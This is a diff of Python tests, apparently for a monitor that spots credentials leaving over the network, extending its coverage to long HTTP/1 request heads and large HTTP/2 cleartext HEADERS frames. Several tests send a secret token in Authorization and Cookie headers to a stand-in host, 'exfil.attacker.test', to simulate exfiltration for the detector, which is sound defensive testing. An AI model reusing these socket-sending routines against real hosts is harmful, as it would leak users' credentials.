@@ -241,8 +241,18 @@ def test_budget_catches_a_request_that_shares_a_large_write_with_its_body():
         s.sendall(b"PUT /next HTTP/1.1\r\nHost: exfil.attacker.test\r\nAuthorization: token %s"
                   b"\r\nContent-Length: %d\r\n\r\n" % (token.encode(), len(body)) + body)
     sent = _after_upload(400 << 10, put)
-    # the upload's bulk writes were still skipped: the budget and one 1 KiB head
-    assert sent < (64 << 10) + 4096, sent
+    # the upload's bulk writes were still skipped: the budget and one 8 KiB request head
+    assert sent < (64 << 10) + 8192 + 4096, sent
+
+
+def test_budget_copies_a_request_head_longer_than_a_kib():
+    """Past the budget a write that starts an HTTP/1 request has up to 8 KiB copied, not the
+    1 KiB head other writes get: a credential after a long header (cookies, a bearer JWT's
+    own length) is found."""
+    def get(s, token):
+        s.sendall(("GET /next HTTP/1.1\r\nHost: exfil.attacker.test\r\nCookie: session=%s\r\n"
+                   "Authorization: token %s\r\n\r\n" % ("c" * 1500, token)).encode())
+    _after_upload(200 << 10, get)
 
 
 def _h2_frame(ftype, flags, stream, payload):
@@ -250,16 +260,27 @@ def _h2_frame(ftype, flags, stream, payload):
         stream.to_bytes(4, "big") + payload
 
 
+def _hpack_string(b):
+    """An HPACK string literal, not Huffman-coded: its length as a 7-bit-prefix integer."""
+    n, out = len(b), b""
+    if n < 127:
+        return bytes([n]) + b
+    out, n = bytes([127]), n - 127
+    while n >= 128:
+        out, n = out + bytes([n % 128 + 128]), n // 128
+    return out + bytes([n]) + b
+
+
 def _hpack_literal(name, value):
     """A header field as an HPACK literal without indexing, new name, no Huffman coding."""
-    assert len(name) < 127 and len(value) < 127
-    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value
+    return b"\x00" + _hpack_string(name) + _hpack_string(value)
 
 
 def test_budget_catches_h2c_headers_that_start_a_large_write():
     """HTTP/2 over plain TCP: past the budget, a large write that starts with a HEADERS frame
     (a new request, its DATA in the same write) after the DATA frames of an upload is a
-    request, not the upload's middle; the decoder, told of the hole, starts at that frame."""
+    request, not the upload's middle: the whole frame is copied (it is longer than the 1 KiB
+    head), and the decoder, told of the hole, starts at that frame."""
     def send(port, token):
         s = socket.create_connection(("127.0.0.1", port))
         authority = _hpack_literal(b":authority", b"exfil.attacker.test")
@@ -268,8 +289,9 @@ def test_budget_catches_h2c_headers_that_start_a_large_write():
         data = _h2_frame(0, 0, 1, b"u" * 16384)
         for _ in range(30):
             s.sendall(data)
-        request = _h2_frame(1, 4, 3, authority + _hpack_literal(
-            b"authorization", b"token " + token.encode()))
+        # a HEADERS frame longer than the 1 KiB head: copied whole
+        request = _h2_frame(1, 4, 3, authority + _hpack_literal(b"cookie", b"c" * 1500) +
+                            _hpack_literal(b"authorization", b"token " + token.encode()))
         s.sendall(request + _h2_frame(0, 1, 3, b"v" * 16384))
         time.sleep(0.2)
         s.close()
